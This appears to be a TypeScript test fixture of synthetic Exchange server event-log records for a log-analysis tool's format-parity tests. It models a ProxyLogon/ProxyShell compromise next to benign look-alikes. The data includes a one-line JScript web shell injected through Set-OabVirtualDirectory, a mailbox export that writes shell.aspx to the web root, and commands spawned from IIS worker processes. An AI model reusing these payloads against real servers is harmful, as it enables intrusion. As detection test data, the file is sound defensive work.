// One Exchange server's events around a ProxyLogon and ProxyShell compromise, with benign neighbours and
// the look-alikes administrators produce: the input of the format-parity tests (the same events as
// .evtx and as every export format must give the same findings and verdict).
import type { WEvent } from "./evtx-writer.js";
import type { Rec } from "./export-writers.js";

const HOST = "EXCH01.contoso.local";
const MGMT = { provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: HOST } as const;
const SEC = { provider: "Microsoft-Windows-Security-Auditing", channel: "Security", computer: HOST } as const;
const SYSMON = {
  provider: "Microsoft-Windows-Sysmon",
  channel: "Microsoft-Windows-Sysmon/Operational",
  computer: HOST,
} as const;

const cmdlet = (
  time: string,
  name: string,
  params: string,
  user = "contoso.local/Users/Administrator",
): WEvent => ({
  ...MGMT,
  eventId: 1,
  time,
  data: [
    name,
    params,
    user,
    "S-1-5-21-1-500",
    "S-1-5-21-1-500",
    "ServerRemoteHost",
    "7788",
    "",
    "3",
    "00:00:00.5",
  ],
});

const W3WP = "c:\\windows\\system32\\inetsrv\\w3wp.exe";

export const SCENARIO: WEvent[] = [
  cmdlet("2021-01-20T10:00:00.000Z", "Get-Mailbox", '-Identity "alice"'),
  cmdlet(
    "2021-03-03T07:12:00.000Z",
    "Set-OabVirtualDirectory",
    '-ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>" -Identity "OAB (Default Web Site)"',
    "NT AUTHORITY\\SYSTEM",
  ),
  cmdlet(
    "2021-03-03T07:13:00.000Z",
    "Set-OabVirtualDirectory",
    '-ExternalUrl "https://mail.contoso.com/OAB" -Identity "OAB (Default Web Site)"',
  ),
  cmdlet(
    "2021-08-14T10:00:00.000Z",
    "New-ManagementRoleAssignment",
    '-Role "Mailbox Import Export" -User "administrator@contoso.local"',
  ),
  cmdlet(
    "2021-08-14T10:01:00.000Z",
    "New-MailboxExportRequest",
    '-Mailbox "administrator@contoso.local" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'x\'" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"',
  ),
  cmdlet(
    "2021-08-14T10:02:00.000Z",
    "Remove-MailboxExportRequest",
    '-Identity "administrator\\MailboxExport" -Confirm "False"',
  ),
  cmdlet(
    "2021-08-20T09:00:00.000Z",
    "New-MailboxExportRequest",
    '-Mailbox "bob" -FilePath "\\\\fs01\\pst$\\bob.pst"',
  ),
  {
    ...SEC,
    eventId: 4688,
    time: "2021-03-03T07:20:00.000Z",
    data: {
      SubjectUserSid: "S-1-5-18",
      SubjectUserName: "EXCH01$",
      SubjectDomainName: "CONTOSO",
      SubjectLogonId: "0x3e7",
      NewProcessId: "0x1a2c",
      NewProcessName: "C:\\Windows\\System32\\cmd.exe",
      TokenElevationType: "%%1936",
      ProcessId: "0x1f40",
      CommandLine: 'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\"&whoami',
      ParentProcessName: W3WP,
    },
  },
  {
    ...SEC,
    eventId: 4688,
    time: "2021-03-03T07:21:00.000Z",
    data: {
      SubjectUserSid: "S-1-5-18",
      SubjectUserName: "EXCH01$",
      SubjectDomainName: "CONTOSO",
      SubjectLogonId: "0x3e7",
      NewProcessId: "0x1a30",
      NewProcessName: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
      TokenElevationType: "%%1936",
      ProcessId: "0x1f40",
      CommandLine: "csc.exe /noconfig @x.cmdline",
      ParentProcessName: W3WP,
    },
  },
  {
    ...SYSMON,
    eventId: 1,
    time: "2021-03-03T07:22:00.000Z",
    data: {
      RuleName: "-",
      UtcTime: "2021-03-03 07:22:00.000",
      ProcessGuid: "{1}",
      ProcessId: "4242",
      Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      CommandLine: "powershell -ep bypass -c whoami",
      User: "NT AUTHORITY\\SYSTEM",
      ParentImage: W3WP,
      ParentCommandLine: `${W3WP} -ap "MSExchangeECPAppPool" -v "v4.0"`,
    },
  },
  {
    ...SYSMON,
    eventId: 11,
    time: "2021-03-03T07:12:30.000Z",
    data: {
      RuleName: "-",
      UtcTime: "2021-03-03 07:12:30.000",
      ProcessGuid: "{2}",
      ProcessId: "5151",
      Image: W3WP,
      TargetFilename:
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx",
      CreationUtcTime: "2021-03-03 07:12:30.000",
    },
  },
  {
    provider: "MSExchange Unified Messaging",
    channel: "Application",
    computer: HOST,
    eventId: 1040,
    level: 2,
    time: "2021-03-03T06:55:00.000Z",
    data: ["UMWorkerProcess", "System.InvalidCastException: Unable to cast object of type 'x' to type 'y'."],
  },
  {
    provider: "Microsoft-Windows-Eventlog",
    channel: "Security",
    computer: HOST,
    eventId: 1102,
    time: "2021-03-05T00:00:00.000Z",
    userData: {
      name: "LogFileCleared",
      xmlns: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
      fields: {
        SubjectUserSid: "S-1-5-21-1-500",
        SubjectUserName: "administrator",
        SubjectDomainName: "CONTOSO",
        SubjectLogonId: "0x1",
      },
    },
  },
];

/** The scenario with record ids per channel, as each channel's own log numbers them. */
export function scenarioRecords(): Rec[] {
  const next = new Map<string, number>();
  return SCENARIO.map((e) => {
    const n = (next.get(e.channel) ?? 100) + 1;
    next.set(e.channel, n);
    return { ...e, recordId: n };
  });
}
